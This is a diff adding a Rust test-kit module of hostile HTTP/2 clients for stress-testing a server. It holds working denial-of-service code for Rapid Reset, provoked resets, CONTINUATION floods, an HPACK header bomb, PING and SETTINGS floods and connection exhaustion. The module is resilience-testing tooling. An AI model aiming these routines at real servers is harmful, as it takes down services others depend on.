@@ -1,0 +1,317 @@
+//! Peers that mean harm: what one can send to a server of HTTP/2 so that it works, holds or waits for nothing.
+//!
+//! ```no_run
+//! # async fn example() -> anyhow::Result<()> {
+//! use testkit::hostile::{Attack, Verdict};
+//!
+//! let verdict = Attack::RapidResets.try_on("127.0.0.1:50051".parse()?).await?;
+//! assert!(matches!(verdict, Verdict::Ended { .. }));
+//! # Ok(()) }
+//! ```
+
+mod wire;
+
+use std::{io, net::SocketAddr, time::Duration};
+
+use anyhow::{Context as _, Result};
+use tokio::{io::AsyncWriteExt as _, net::tcp::OwnedWriteHalf, select, time::timeout};
+
+use wire::{
+    ACK, CONTINUATION, DATA, END_HEADERS, GOAWAY, HEADERS, Hearing, LONGEST, PING, PREFACE,
+    RST_STREAM, SETTINGS, WINDOW_UPDATE, begin, call, connect, frame, literal, remembered,
+};
+
+/// More than any server needs to make up its mind.
+const BOUND: Duration = Duration::from_mins(1);
+/// Frames of one write.
+const BURST: u32 = 1_000;
+/// Frames of a flood that ends by itself, in [`BURST`]s.
+const FLOOD: u32 = 50 * BURST;
+/// By this PING the end of a flood is known.
+const MARK: &[u8; 8] = b"the end.";
+/// RFC 9113, section 7.
+const ENHANCE_YOUR_CALM: u32 = 11;
+const CANCEL: [u8; 4] = [0, 0, 0, 8];
+/// A message that gRPC allows, and that never comes.
+const PROMISED: u32 = 4 * 1024 * 1024;
+
+/// What a peer does.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Attack {
+    /// Connects, and begins to speak without an end to it.
+    SlowHandshake,
+    /// Connects again and again, and keeps what it gets.
+    Connections,
+    /// Has begun to speak, and answers nothing from then on.
+    Silence,
+    /// Gives up calls as it makes them (CVE-2023-44487).
+    RapidResets,
+    /// Makes the server give up calls, by mistakes (CVE-2025-8671).
+    MadeResets,
+    /// Opens more calls than it may.
+    Streams,
+    /// Sends one header of 200 KiB.
+    LongHeaders,
+    /// Sends one header and names it thousands of times more, by a byte each.
+    HeaderBomb,
+    /// Sends headers without an end to them (CVE-2024-27316 and its like).
+    Continuations,
+    /// Sends DATA frames with no data in them.
+    EmptyData,
+    /// Promises messages of 4 MiB on a hundred calls, and sends as much of them as is taken.
+    UnfinishedMessages,
+    /// Asks whether the server is there, tens of thousands of times.
+    Pings,
+    /// Answers as often what nobody has asked.
+    PingAnswers,
+    /// Sends as many SETTINGS, each of which is to be acknowledged.
+    Settings,
+}
+
+/// What the server made of it.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Verdict {
+    /// It ended the connection, with this code when it said one. A socket that is closed with something unread in it may lose that.
+    Ended {
+        /// An error code of HTTP/2.
+        code: Option<u32>,
+    },
+    /// It ended one call with this code, an error code of HTTP/2.
+    Refused {
+        /// An error code of HTTP/2.
+        code: u32,
+    },
+    /// It went on, and answered the last word.
+    Endured,
+}
+
+impl Verdict {
+    /// The connection was ended, because it was too much.
+    pub fn is_calmed(self) -> bool {
+        matches!(self, Self::Ended { code } if code.is_none_or(|code| code == ENHANCE_YOUR_CALM))
+    }
+}
+
+impl Attack {
+    /// All of them.
+    pub const ALL: [Self; 14] = [
+        Self::SlowHandshake,
+        Self::Connections,
+        Self::Silence,
+        Self::RapidResets,
+        Self::MadeResets,
+        Self::Streams,
+        Self::LongHeaders,
+        Self::HeaderBomb,
+        Self::Continuations,
+        Self::EmptyData,
+        Self::UnfinishedMessages,
+        Self::Pings,
+        Self::PingAnswers,
+        Self::Settings,
+    ];
+
+    /// What it is called in a table.
+    pub fn name(self) -> &'static str {
+        match self {
+            Self::SlowHandshake => "slow handshakes",
+            Self::Connections => "connections",
+            Self::Silence => "silence",
+            Self::RapidResets => "rapid resets",
+            Self::MadeResets => "resets that it provokes",
+            Self::Streams => "streams",
+            Self::LongHeaders => "long headers",
+            Self::HeaderBomb => "a header named again",
+            Self::Continuations => "CONTINUATION without an end",
+            Self::EmptyData => "empty DATA",
+            Self::UnfinishedMessages => "unfinished messages",
+            Self::Pings => "PING",
+            Self::PingAnswers => "answers to no PING",
+            Self::Settings => "SETTINGS",
+        }
+    }
+
+    /// Does it once, on connections of its own, until the server has said what it makes of it.
+    ///
+    /// # Errors
+    /// When nobody listens there, or nothing has come of it within a minute.
+    pub async fn try_on(self, server: SocketAddr) -> Result<Verdict> {
+        timeout(BOUND, self.run(server))
+            .await
+            .with_context(|| format!("the server has said nothing of {}", self.name()))?
+            .with_context(|| format!("cannot try {} on {server}", self.name()))
+    }
+
+    async fn run(self, server: SocketAddr) -> io::Result<Verdict> {
+        match self {
+            Self::SlowHandshake => {
+                let (mut write, hearing) = connect(server).await?;
+                write.write_all(&PREFACE[..10]).await?;
+                Ok(verdict(hearing, false).await)
+            }
+            Self::Connections => connections(server).await,
+            Self::Silence => {
+                let (_write, hearing) = begin(server).await?;
+                Ok(verdict(hearing, false).await)
+            }
+            attack => {
+                let (write, mut hearing) = begin(server).await?;
+                if attack == Self::UnfinishedMessages {
+                    // Until then all streams together may send what one may (RFC 9113, section 6.9.2).
+                    while hearing.next().await?.kind != WINDOW_UPDATE {}
+                }
+                // The server's word counts as soon as it is said: what is sent after it may find nobody.
+                select! {
+                    biased;
+                    verdict = verdict(hearing, attack == Self::Streams) => Ok(verdict),
+                    never = attack.send(write) => match never {},
+                }
+            }
+        }
+    }
+
+    /// Sends what makes it up, and then waits.
+    async fn send(self, mut write: OwnedWriteHalf) -> std::convert::Infallible {
+        // Who is not read any more is told so by what it reads itself.
+        let _ = self.sent(&mut write).await;
+        std::future::pending().await
+    }
+
+    async fn sent(self, write: &mut OwnedWriteHalf) -> io::Result<()> {
+        match self {
+            Self::LongHeaders => {
+                let long = "x".repeat(200 * 1024);
+                write.write_all(&headers(&literal("x-long", &long))).await
+            }
+            Self::HeaderBomb => write.write_all(&headers(&bomb())).await,
+            Self::Continuations => {
+                let begun = frame(HEADERS, 0, 1, &call());
+                write.write_all(&begun).await?;
+                for_ever(write, &frame(CONTINUATION, 0, 1, &literal("a", "b"))).await
+            }
+            Self::EmptyData => {
+                write.write_all(&open(1)).await?;
+                for_ever(write, &frame(DATA, 0, 1, &[])).await
+            }
+            Self::RapidResets => calls(write, |stream| frame(RST_STREAM, 0, stream, &CANCEL)).await,
+            Self::MadeResets => {
+                // A window that grows beyond what a window may be is an error of its stream.
+                let beyond = i32::MAX.to_be_bytes();
+                calls(write, |stream| frame(WINDOW_UPDATE, 0, stream, &beyond)).await
+            }
+            Self::Streams => calls(write, |_| Vec::new()).await,
+            Self::UnfinishedMessages => unfinished(write).await,
+            Self::Pings => flood(write, &frame(PING, 0, 0, &[1; 8])).await,
+            Self::PingAnswers => flood(write, &frame(PING, ACK, 0, &[1; 8])).await,
+            Self::Settings => flood(write, &frame(SETTINGS, 0, 0, &[])).await,
+            Self::SlowHandshake | Self::Connections | Self::Silence => Ok(()),
+        }
+    }
+}
+
+/// The first word of the server's that says what it makes of it all.
+async fn verdict(mut hearing: Hearing, of_streams: bool) -> Verdict {
+    loop {
+        let Ok(heard) = hearing.next().await else {
+            return Verdict::Ended { code: None };
+        };
+        match heard.kind {
+            GOAWAY => {
+                let code = Some(heard.code());
+                return Verdict::Ended { code };
+            }
+            RST_STREAM if of_streams => {
+                let code = heard.code();
+                return Verdict::Refused { code };
+            }
+            PING if heard.flags == ACK && heard.payload == MARK => return Verdict::Endured,
+            _ => {}
+        }
+    }
+}
+
+/// Connects until it is refused, and lets go of what it has then. A connection that is good is told of by SETTINGS.
+async fn connections(server: SocketAddr) -> io::Result<Verdict> {
+    let mut kept = Vec::new();
+    loop {
+        let Ok((write, mut hearing)) = begin(server).await else {
+            return Ok(Verdict::Ended { code: None });
+        };
+        if hearing.next().await.is_err() {
+            return Ok(Verdict::Ended { code: None });
+        }
+        kept.push((write, hearing));
+    }
+}
+
+fn open(stream: u32) -> Vec<u8> {
+    frame(HEADERS, END_HEADERS, stream, &call())
+}
+
+/// A call with more headers, in as many frames as they need.
+fn headers(more: &[u8]) -> Vec<u8> {
+    let block = [&call(), more].concat();
+    let mut out = Vec::new();
+    for (place, piece) in block.chunks(LONGEST).enumerate() {
+        let kind = if place == 0 { HEADERS } else { CONTINUATION };
+        let last = (place + 1) * LONGEST >= block.len();
+        out.extend(frame(kind, if last { END_HEADERS } else { 0 }, 1, piece));
+    }
+    out
+}
+
+/// A header of 4,000 bytes, and ten thousand times the first entry of the dynamic table (RFC 7541, section 6.1).
+fn bomb() -> Vec<u8> {
+    const FIRST: u8 = 0b1000_0000 + 62;
+    let mut out = remembered("x-bomb", &"x".repeat(4_000));
+    out.extend([FIRST; 10_000]);
+    out
+}
+
+/// Calls without an end, each with what follows its headers.
+async fn calls(write: &mut OwnedWriteHalf, then: impl Fn(u32) -> Vec<u8>) -> io::Result<()> {
+    let mut streams = (1..).step_by(2);
+    loop {
+        let burst: Vec<_> = streams
+            .by_ref()
+            .take(BURST as usize)
+            .flat_map(|stream| [open(stream), then(stream)].concat())
+            .collect();
+        write.write_all(&burst).await?;
+    }
+}
+
+async fn unfinished(write: &mut OwnedWriteHalf) -> io::Result<()> {
+    // What a stream may send before the server's SETTINGS are acknowledged, which they never are here.
+    const AT_FIRST: usize = 65_535;
+    let streams = (1..).step_by(2).take(100);
+    let promise = [&[0], PROMISED.to_be_bytes().as_slice()].concat();
+    for stream in streams.clone() {
+        write.write_all(&open(stream)).await?;
+        write.write_all(&frame(DATA, 0, stream, &promise)).await?;
+    }
+    for _ in 0..AT_FIRST / LONGEST {
+        for stream in streams.clone() {
+            write
+                .write_all(&frame(DATA, 0, stream, &[0; LONGEST]))
+                .await?;
+        }
+    }
+    write.write_all(&frame(PING, 0, 0, MARK)).await
+}
+
+async fn for_ever(write: &mut OwnedWriteHalf, frame: &[u8]) -> io::Result<()> {
+    let burst = frame.repeat(100);
+    loop {
+        write.write_all(&burst).await?;
+    }
+}
+
+/// So many of them, and a last word.
+async fn flood(write: &mut OwnedWriteHalf, one: &[u8]) -> io::Result<()> {
+    let burst = one.repeat(BURST as usize);
+    for _ in 0..FLOOD / BURST {
+        write.write_all(&burst).await?;
+    }
+    write.write_all(&frame(PING, 0, 0, MARK)).await
+}
